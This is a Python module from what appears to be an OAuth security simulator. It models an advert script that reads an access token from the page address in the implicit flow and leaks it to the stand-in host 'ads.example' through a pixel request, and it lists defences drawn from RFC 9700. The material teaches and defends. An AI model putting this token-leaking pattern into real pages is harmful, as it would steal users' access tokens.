"""A script of another site in the client's page: it reads the token out of the address (RFC 6749 §3.1.2.5)."""

from __future__ import annotations

from urllib.parse import urldefrag

from app.actors.client import page
from app.actors.owner import Owner
from app.actors.places import ADVERTS, CLIENT_ORIGIN
from app.attacks import adverts, parts
from app.attacks.attack import Attack, Defence
from app.attacks.parts import ATTACKER, COPIES, STEAL
from app.flows.parts import log_in_and_consent
from app.wire import Browser, Moment, Step, World


def script(world: World) -> None:
    """Ana asks for prints; on each page the other site's script runs first, and then the printer's own."""
    owner, browser = Owner(world), Browser(world)
    browser.open(f"{CLIENT_ORIGIN}/print", owner.starts("start", "browser").cause)
    page.run_scripts(world, browser)
    log_in_and_consent(owner, browser)
    run_advert(browser)
    page.run_scripts(world, browser)
    thief = world.actor(ATTACKER)
    parts.fetch_photos(thief, thief.look(COPIES, "access_token") or "")


def run_advert(browser: Browser) -> None:
    """What the script does besides showing adverts: it has a picture loaded, with the fragment in its address."""
    fragment = urldefrag(browser.page.url).fragment
    if "advert" in browser.page.scripts and fragment:
        moment = browser.page.moment
        with browser.world.during(Moment(step=moment.step, cause=moment.cause)):
            browser.load(f"{ADVERTS}/seen.png?{fragment}")


ATTACK = Attack(
    id="leaking-script",
    title="A script that reads the token",
    spec=("RFC 6749 §3.1.2.5", "RFC 9700 §2.1.2"),
    flows=("implicit",),
    aim="A script of another site, in the client's page, sends Ana's access token away.",
    goal=parts.photos_stolen,
    needs={"client.type": "public", "client.auth": "none"},
    weak={"client.third_party": "script", "as.implicit": "allowed"},
    stops=(
        Defence(
            switch="client.third_party",
            value="image",
            who="client",
            sentence="A picture can read nothing of the page that it stands in.",
        ),
        Defence(
            switch="client.third_party",
            value="none",
            who="client",
            sentence="The page loads nothing from another site.",
        ),
        parts.implicit_refused("No access token is put into an address, so none can be read there."),
    ),
    promised={"rfc9700": "RFC 9700 §2.1.2", "oauth-2.1": "OAuth 2.1 §10.1"},
    lanes=(parts.thief("ads.example", "attacker's site"),),
    steps=(
        adverts.SCRIPT,
        adverts.PIXEL,
        Step("seen", "browser", ATTACKER, "GET", "/seen.png", STEAL, "Load a picture with the token in its address"),
        parts.REDEEMING[1],
    ),
    phases=(parts.STEALING,),
    hosts=adverts.hosts,
    script=script,
    victim="Ana does everything right, and has her prints.",
    attacker="He delivers a script that the printer itself put into its pages, and it runs with the printer's rights.",
    remains="With a code and PKCE no token is in the address, but a foreign script still can do what the page can.",
)
